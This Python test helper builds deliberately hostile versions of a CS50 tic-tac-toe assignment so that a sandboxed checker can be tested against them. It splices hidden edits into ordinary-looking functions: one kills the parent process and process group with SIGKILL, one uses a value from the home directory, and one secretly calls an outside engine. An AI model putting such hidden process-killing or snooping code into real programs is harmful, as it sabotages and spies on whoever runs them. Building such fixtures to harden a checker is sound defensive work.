"""The project's hostile CS50 AI files: each a plausible tictactoe.py that does harm.

Each file is its own head, tests/cs50/hostile/<name>.py (the course's
docstring and names, and the harm, at the top as a student puts it),
followed by tests/cs50/correct.py's functions, three of them with an edit
that carries the harm into a checked function. Kept as the heads and the
edits rather than twelve near-copies of correct.py, as tests/cs50/mutants.py
keeps the one-bug files. ``source(name)`` makes a file; ``python -m
tests.cs50.hostile_files DIR`` writes them all to DIR, for ``pyengine check
DIR/*.py`` (in its sandbox: these files are written to do harm).
"""

from __future__ import annotations

import sys
from pathlib import Path

from .mutants import CORRECT, edited, write

HEADS = Path(__file__).resolve().parent / "hostile"
FUNCTIONS = "\n# The eight lines of three"
"""Where correct.py's functions start, after its docstring, imports and names."""

_PLAYER_DOC = '    Returns player who has the next turn on a board.\n    """\n'
_MINIMAX_START = (
    '    Returns the optimal action for the current player on the board.\n    """\n'
    "    if terminal(board):\n        return None\n"
)
EDITS: dict[str, tuple[tuple[str, str], ...]] = {
    "imports_engine": (
        (
            _MINIMAX_START,
            _MINIMAX_START
            + '    notation = "".join(cell or "." for row in board for cell in row)\n'
            + '    cell = bot("perfect").choose(Board.parse(notation))\n'
            + "    return divmod(cell, 3)\n",
        ),
    ),
    "kills_parent": (
        (
            _PLAYER_DOC,
            _PLAYER_DOC
            + "    with contextlib.suppress(OSError):\n        os.kill(os.getppid(), signal.SIGKILL)\n"
            + "    with contextlib.suppress(OSError):\n        os.killpg(os.getpgid(0), signal.SIGKILL)\n",
        ),
    ),
    "reads_home": (("    return X if xs == os_ else O", "    return FOUND if xs == os_ else O"),),
}
"""The harms that live inside a checked function, as (text of correct.py, what replaces it)."""


def names() -> list[str]:
    """Every hostile file's name, without .py."""
    return sorted(path.stem for path in HEADS.glob("*.py"))


def source(name: str) -> str:
    """The hostile file ``name``: its head, then correct.py's functions with its edits made."""
    correct = CORRECT.read_text()
    functions = edited(correct[correct.index(FUNCTIONS) :], EDITS.get(name, ()), name)
    return (HEADS / f"{name}.py").read_text() + functions


def write_all(folder: Path) -> list[Path]:
    """Every hostile file as ``folder/<name>.py``; the paths written."""
    return write(folder, ((name, source(name)) for name in names()))


if __name__ == "__main__":
    for path in write_all(Path(sys.argv[1])):
        print(path)
